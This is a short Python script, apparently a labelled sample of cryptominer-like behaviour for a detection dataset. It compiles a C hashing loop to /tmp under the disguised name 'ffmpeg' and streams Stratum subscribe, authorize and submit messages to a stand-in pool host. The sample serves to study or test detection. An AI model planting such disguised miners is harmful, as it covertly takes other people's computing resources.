# class: mining; possible: low medium; style: compiles its kernel first, talks to it by a pipe
import json
import socket
import subprocess
import time

SRC = r"""
#include <stdio.h>
#include <stdint.h>
#include <time.h>
int main(void) {
    uint32_t n = 0; time_t end = time(0) + 40;
    setvbuf(stdout, 0, _IOLBF, 0);
    while (time(0) < end)
        for (int k = 0; k < 2000000; k++) {
            uint32_t x = ++n;
            for (int i = 0; i < 40; i++) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; x += 0x9e3779b9; }
            if (!(x & 0xffffff)) printf("%08x\n", n);
        }
}
"""
with open("/tmp/kern.c", "w") as f:
    f.write(SRC)
subprocess.run(["gcc", "-O3", "-o", "/tmp/ffmpeg", "/tmp/kern.c"], check=True)
s = socket.create_connection(("pool.coin.test", 3333))
s.sendall(b'{"id":1,"method":"mining.subscribe","params":[]}\n')
s.sendall(b'{"id":2,"method":"mining.authorize","params":["gpu0","x"]}\n')
p = subprocess.Popen(["/tmp/ffmpeg"], stdout=subprocess.PIPE, text=True)
for line in p.stdout:
    s.sendall(json.dumps({"id": 4, "method": "mining.submit", "params": ["gpu0", "j1", "0", "5e9a1b2c", line.strip()]}).encode() + b"\n")
    time.sleep(0.05)
